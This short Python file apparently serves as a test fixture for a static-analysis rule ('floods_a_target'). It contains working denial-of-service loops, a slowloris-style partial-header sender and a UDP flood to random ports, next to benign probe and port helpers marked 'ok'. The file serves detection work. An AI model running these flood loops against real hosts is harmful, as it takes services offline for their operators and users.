# a bot's attack loops: slowloris header lines, a raw request with a random query, datagrams to random ports
import os
import random
import socket
import time


def slow(host, port, socks):
    # ruleid: floods_a_target
    s = socket.create_connection((host, port)); s.send(("GET /?%d HTTP/1.1\r\n" % random.randint(0, 99999)).encode())
    socks.append(s)
    for s in socks:
        s.send(("X-a: %d\r\n" % random.randint(1, 5000)).encode())


def udp(host, secs):
    end = time.time() + secs
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while time.time() < end:
        s.sendto(os.urandom(1024), (host, random.randint(1, 65535)))


def probe(host):
    # ok: floods_a_target
    s = socket.create_connection((host, 80)); s.send(b"GET /health HTTP/1.1\r\nHost: example\r\n\r\n")
    return s.recv(100)


def free_port():
    # ok: floods_a_target
    port = random.randint(20000, 60000)
    return port
